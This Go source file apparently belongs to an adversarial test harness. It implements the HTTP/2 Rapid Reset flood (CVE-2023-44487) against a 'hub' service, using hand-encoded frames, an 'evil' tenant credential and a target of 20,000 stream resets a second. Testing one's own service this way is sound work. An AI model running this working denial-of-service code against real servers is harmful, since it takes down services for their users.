package attack

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"io"
	"net"
	"time"
)

// Frames of HTTP/2 (RFC 9113, section 6), and of HPACK (RFC 7541, appendix A) the header
// that says who asks.
const (
	headersFrame  = 1
	resetFrame    = 3
	settingsFrame = 4

	wholeRequest  = 0x4 | 0x1 // END_HEADERS and END_STREAM
	initialWindow = 4         // SETTINGS_INITIAL_WINDOW_SIZE
	authorization = 23
)

// framed speaks HTTP/2 frame by frame, and reads nothing of what is answered.
type framed struct {
	bytes.Buffer // what is to be sent
	conn         net.Conn
	stream       uint32 // the next one's
	known        bool   // the hub's table has the credential
}

// framed connects; nil where there is no connection to be had. Of an answer the hub may send
// so many bytes.
func (a *attacker) framed(window uint32) *framed {
	conn := a.connect()
	if conn == nil {
		return nil
	}
	f := &framed{conn: conn, stream: 1}
	go io.Copy(io.Discard, conn)
	f.WriteString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	f.frame(settingsFrame, 0, 0, binary.BigEndian.AppendUint32([]byte{0, initialWindow}, window))
	return f
}

func (f *framed) frame(kind, flags byte, stream uint32, payload []byte) {
	f.Write([]byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags})
	f.Write(binary.BigEndian.AppendUint32(nil, stream))
	f.Write(payload)
}

// get asks for something by a credential.
func (f *framed) get(path, credential string) (stream uint32) {
	block := []byte{0x80 | 2, 0x80 | 6, 4} // GET, http, and a path
	block = append(number(block, 0, 7, len(path)), path...)
	block = append(number(append(block, 1), 0, 7, len("hub")), "hub"...)
	if f.known {
		block = append(block, 0x80|62)
	} else {
		f.known = true
		value := "Bearer " + credential
		block = append(number(append(block, 0x40|authorization), 0, 7, len(value)), value...)
	}
	stream = f.stream
	f.stream += 2
	f.frame(headersFrame, wholeRequest, stream, block)
	return stream
}

// number is an integer of HPACK (RFC 7541, section 5.1).
func number(to []byte, first byte, bits, n int) []byte {
	most := 1<<bits - 1
	if n < most {
		return append(to, first|byte(n))
	}
	return binary.AppendUvarint(append(to, first|byte(most)), uint64(n-most))
}

// send sends what was gathered, and says whether the connection stands.
func (f *framed) send() bool {
	_, err := f.WriteTo(f.conn)
	return err == nil
}

// resets opens streams from far behind, again and again, and takes each back at once
// (CVE-2023-44487): 20,000 a second.
func resets(a *attacker) {
	const together = 50
	for range 9 {
		a.post("/v1/events/batch", batch(evil, 1000, 4, toAll))
	}
	var first struct{ Cursor string }
	if page, err := ask(a.addr, "/v1/tenants/"+evil+"/events?limit=1", keyEvil); err != nil || json.Unmarshal([]byte(page), &first) != nil {
		a.count("no history", 1)
	}
	path, credential := "/v1/stream?presence=none&cursor="+first.Cursor, token(evil, "user:evil")
	end := time.Now().Add(time.Duration(a.times) * attackTime / 2)
	a.each(20, 1000, 20, func(int) {
		for f := a.framed(1 << 20); f != nil && a.ctx.Err() == nil && time.Now().Before(end); {
			var streams []uint32
			for range together {
				streams = append(streams, f.get(path, credential))
			}
			for _, stream := range streams {
				f.frame(resetFrame, 0, stream, []byte{0, 0, 0, 8})
			}
			if f.send() {
				a.count("reset", together)
				time.Sleep(50 * time.Millisecond)
			} else {
				a.count("cut", 1)
				f.conn.Close()
				f = a.framed(1 << 20)
			}
		}
	})
}
